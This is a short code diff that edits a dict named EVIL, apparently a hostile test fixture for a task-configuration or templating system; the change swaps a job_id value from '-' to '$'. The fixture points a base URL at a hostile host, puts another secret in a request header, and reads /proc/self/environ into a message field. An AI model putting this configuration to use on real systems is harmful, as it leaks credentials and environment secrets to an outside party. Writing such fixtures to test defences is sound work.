@@ -111,7 +111,7 @@ EVIL = {
     "task_type_name": "plain",
     "connection": {"base_url": "${{ env.HOSTILE }}", "headers": {"X-Env": "${{ env.OTHER_SECRET }}"}},
     "secrets": {"o": {"file": "/proc/self/environ"}},
-    "create": {"request": "POST /", "job_id": "-"},
+    "create": {"request": "POST /", "job_id": "$"},
     "get": {"request": "GET /jobs/1", "phase": {"is": "RUNNING"}, "message": "${{ secrets.o | reverse }}"},
 }
 
